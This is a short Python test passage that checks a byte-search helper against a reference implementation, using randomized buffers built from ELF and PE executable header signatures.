    def found(buf: bytes, needle: bytes, start: int, stop: int) -> list[int]:
        hits, end = [], stop + len(needle) - 1
        pos = buf.find(needle, start, end)
        while pos != -1:
            hits.append(pos)
            pos = buf.find(needle, pos + 1, end)
        return hits

    rng = random.Random(7)
    pieces = [b"\x7fELF", b"PE\x00\x00", b"P", b"E", b"\x00", b"\x7f"]
    for _ in range(2000):
        buf = b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 40)))
        needle = rng.choice([b"\x7fELF", b"PE\x00\x00", b"PE\x00\x00\x4c\x01"])
        start, stop = rng.randint(-2, len(buf) + 2), rng.randint(0, len(buf) + 4)
        assert _positions(bytearray(buf), needle, start, stop) == found(buf, needle, max(start, 0), stop)
